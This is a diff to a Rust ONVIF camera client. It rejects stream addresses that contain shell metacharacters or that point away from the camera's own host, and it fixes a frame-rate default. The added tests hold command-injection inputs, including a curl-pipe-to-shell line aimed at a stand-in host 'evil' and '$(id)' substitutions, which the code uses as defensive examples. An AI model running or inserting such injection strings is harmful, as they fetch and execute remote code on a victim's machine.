@@ -109,7 +109,11 @@ impl Device {
         let answer = self.caller.ask(&self.media, &body).await?;
         let document = xml::parse(&answer)?;
         let stream = xml::text(document.root(), &["MediaUri", "Uri"]);
-        stream.and_then(|stream| without_user(&stream)).ok_or(OnvifError::Lacks("where its stream is"))
+        let stream = stream.and_then(|stream| without_user(&stream)).filter(|stream| is_plain(stream));
+        let stream = stream.ok_or(OnvifError::Lacks("where its stream is"))?;
+        // Whoever plays it proves the password there.
+        let is_own = host_of(&stream).is_some_and(|host| host.eq_ignore_ascii_case(&self.caller.host));
+        if is_own { Ok(stream) } else { Err(OnvifError::Lacks("a stream on its own host")) }
     }
 
     /// Sets the distance of its key frames to about this many seconds, within what it allows, and reads
@@ -122,7 +126,9 @@ impl Device {
         let lacks = OnvifError::Lacks("how far apart key frames of this stream are (only H.264's are told)");
         let (answer, before) = self.encoder(token).await?;
         let before = before.ok_or(lacks)?;
-        let wished = profile.fps.unwrap_or(25).max(1).saturating_mul(seconds);
+        // Some say 0 where they have no limit.
+        let fps = profile.fps.filter(|fps| *fps > 0).unwrap_or(25);
+        let wished = fps.saturating_mul(seconds);
         let (least, most) = self.key_frames_allowed(token).await.unwrap_or((1, u32::MAX));
         let wished = wished.clamp(least.min(most), most);
         let body = {
@@ -130,7 +136,7 @@ impl Device {
             let encoder =
                 xml::find(document.root(), &["GetVideoEncoderConfigurationResponse", "Configuration"]);
             let encoder = encoder.ok_or(OnvifError::Lacks("how this stream is encoded"))?;
-            let changed = xml::written(encoder, "Configuration", &("GovLength", wished.to_string()));
+            let changed = xml::written(encoder, "Configuration", &("GovLength", wished.to_string()))?;
             format!(
                 "<SetVideoEncoderConfiguration xmlns=\"{MEDIA}\">{changed}\
                  <ForcePersistence>true</ForcePersistence></SetVideoEncoderConfiguration>"
@@ -254,6 +260,11 @@ pub fn proposed(profiles: &[Profile]) -> (Option<&Profile>, Option<&Profile>) {
     (main, second)
 }
 
+/// Whether an address can be shown, and pasted into a shell between quotes, as it stands.
+fn is_plain(stream: &str) -> bool {
+    stream.bytes().all(|byte| byte.is_ascii_graphic() && !b"'\"\\`$<>{}|^".contains(&byte))
+}
+
 /// The host of a stream's address, where its device service is asked for.
 pub fn host_of(stream: &str) -> Option<String> {
     let uri: Uri = without_user(stream)?.parse().ok()?;
@@ -350,6 +361,10 @@ mod tests {
             "rtsp://10.0.0.20:554/1?a=b@c"
         );
         assert_eq!(without_user("rtsp://10.0.0.20/1").unwrap(), "rtsp://10.0.0.20/1");
+        for word in ["'; curl evil|sh; '", "$(id)", "`id`", "\u{202e}", "\\", " "] {
+            assert!(!is_plain(&format!("rtsp://10.0.0.20/1{word}")), "{word}");
+        }
+        assert!(is_plain("rtsp://10.0.0.20:554/Streaming/101?transport=x&a=%27#b"));
         assert_eq!(without_user("http://10.0.0.20/1").or(without_user("rtsp://")), None);
     }
 }
